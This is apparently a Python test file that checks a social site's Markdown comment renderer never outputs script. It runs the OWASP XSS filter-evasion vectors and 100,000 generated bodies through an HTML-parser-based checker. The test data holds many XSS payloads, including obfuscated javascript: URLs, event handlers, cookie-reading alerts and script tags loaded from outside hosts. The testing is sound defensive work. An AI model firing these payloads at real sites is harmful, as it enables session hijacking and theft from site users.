"""No comment body becomes script (social/formatting.py): the OWASP XSS filter-evasion cheat
sheet's vectors, then 100,000 generated bodies mixing Markdown syntax, HTML fragments and
dangerous URLs. Each rendering is read back with an HTML parser (html.parser, as a browser
tokenises), and must hold only the subset's tags and attributes: no <script> (nor any other
tag), no on* event handler, no link but http, https, mailto and a mention's profile path, so no
`javascript:`, `vbscript:` or `data:` URL however it is spelled (entities, case, control
characters), and a `rel="nofollow ugc noopener"` on every link."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from social.formatting import ALLOWED_ATTRIBUTES, ALLOWED_CLASSES, ALLOWED_TAGS, LINK_REL, markdown_html

USERNAMES = {"bob": "bob", "evil": "evil"}  # so mention links are made too
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "background", "poster", "xlink:href", "srcset"}
SAFE_URL = re.compile(r"^(https?://|mailto:|/u/(bob|evil)/$)", re.IGNORECASE)
# Characters a browser drops or ignores inside a URL's scheme.
URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f]+")


class Rendering(HTMLParser):
    """Every tag, attribute and URL of a rendered body, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"class", "rel"} if tag == "a" else set())
        names = [name for name, _ in attrs]
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"event handler {name}")
            if name not in allowed:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES:
                url = URL_NOISE.sub("", html.unescape(value)).lower()
                if url.startswith(("javascript:", "vbscript:", "data:")) or not SAFE_URL.match(url):
                    self.problems.append(f"URL {value!r}")
            if name == "class" and value not in ALLOWED_CLASSES.get(tag, set()):
                self.problems.append(f"class {value!r}")
            if name == "rel" and value != LINK_REL:
                self.problems.append(f"rel {value!r}")
        if tag == "a" and "rel" not in names:
            self.problems.append("a link without rel")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")


def problems(body: str) -> list[str]:
    rendering = Rendering()
    rendering.feed(markdown_html(body, USERNAMES))
    rendering.close()
    return rendering.problems


# From the OWASP XSS Filter Evasion Cheat Sheet, as raw HTML and as Markdown links and autolinks.
OWASP_VECTORS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',  # noqa: E501
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",  # noqa: E501
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",  # noqa: E501
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",  # noqa: E501
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',  # noqa: E501
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<IMG SRC="http://www.thesiteyouareon.com/somecommand.php?somevariables=maliciouscode">',
    '<A HREF="http://66.102.7.147/">XSS</A><A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>',
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "[a](javascript:alert('XSS'))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[a](jav%09ascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a]( javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    '[a](https://example.com" onmouseover="alert(1))',
    '[a](https://example.com "title\\" onmouseover=\\"alert(1)")',
    "![x](javascript:alert(1))",
    '![x](https://example.com/x.png" onerror="alert(1))',
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    '- <a href="javascript:alert(1)">x</a>',
    "**<svg onload=alert(1)>**",
    "@bob<script>alert(1)</script>",
    "[@bob](javascript:alert(1))",
    "javascript:alert(1)//https://example.com",
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/'onmouseover='alert(1)",
]


@pytest.mark.parametrize("vector", OWASP_VECTORS)
def test_an_owasp_vector_renders_no_script(vector):
    assert problems(vector) == []


def test_the_checker_sees_what_it_looks_for():
    """The parser-based check itself: it finds each thing it forbids (else the tests above prove nothing)."""
    checker = Rendering()
    checker.feed(
        '<script></script><a href="java&#x09;script:x" onclick="x" rel="nofollow ugc noopener">x</a>'
        '<a href="https://example.com">no rel</a><img src="data:x">'
    )
    found = " ".join(checker.problems)
    for expected in ("tag <script>", "event handler onclick", "URL 'java\\tscript:x'", "without rel", "tag <img>"):
        assert expected in found


# Generated bodies: pieces of Markdown syntax, HTML, entities and dangerous URLs, in any order.
FRAGMENTS = [
    "*",
    "**",
    "_",
    "__",
    "`",
    "```",
    "~~~",
    "    ",
    "\n",
    "\n\n",
    "> ",
    "- ",
    "1. ",
    "+ ",
    "# ",
    "===",
    "---",
    "[",
    "]",
    "(",
    ")",
    "![",
    "](",
    "<",
    ">",
    '"',
    "'",
    "=",
    "/",
    "\\",
    "&",
    "&#",
    ";",
    "&#x",
    "%",
    "\t",
    " ",
    "@bob",
    "@evil",
    "@",
    "a",
    "x",
    "0",
    "6A",
    "106",
    "ok",
    "é",
    "\u0000",
    "\u200b",
    "\ufeff",
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "jav&#x09;ascript:",
    "&#106;avascript:",
    "vbscript:",
    "data:",
    "data:text/html,",
    "alert(1)",
    "http://",
    "https://",
    "mailto:",
    "//",
    "example.com",
    "www.",
    "<script>",
    "</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="',
    "<a href='",
    "</a>",
    " onmouseover=",
    " onerror=",
    "<svg/onload=",
    "<iframe",
    "<style>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?",
    "<!DOCTYPE",
    "<b>",
    "</p>",
    "<div",
    " style=",
    "expression(",
    "url(",
    "[r]: ",
    "[r]",
    "<http://",
    "<mailto:",
]
body = st.lists(st.sampled_from(FRAGMENTS), max_size=20).map("".join)
soup = st.text(alphabet=st.sampled_from("*_`[]()<>!#>-+=&;:/\\\"' \n\tajvsrcipt@bob1."), max_size=120)
# Ten bodies an example, so that Hypothesis' own work per example is shared by ten renderings.
BATCH = 10
FRAGMENT_EXAMPLES, SOUP_EXAMPLES = 8_000, 2_000  # x BATCH: 100,000 bodies


@pytest.mark.slow  # about 45 s alone on 2 cores
def test_100_000_generated_bodies_render_no_script():
    checked = []

    @settings(max_examples=FRAGMENT_EXAMPLES, deadline=None, database=None, suppress_health_check=list(HealthCheck))
    @given(st.lists(body, min_size=BATCH, max_size=BATCH))
    def fragments(bodies):
        for text in bodies:
            assert problems(text) == [], text
        checked.extend(bodies)

    @settings(max_examples=SOUP_EXAMPLES, deadline=None, database=None, suppress_health_check=list(HealthCheck))
    @given(st.lists(soup, min_size=BATCH, max_size=BATCH))
    def syntax_soup(bodies):
        for text in bodies:
            assert problems(text) == [], text
        checked.extend(bodies)

    fragments()
    syntax_soup()
    assert len(checked) >= 100_000
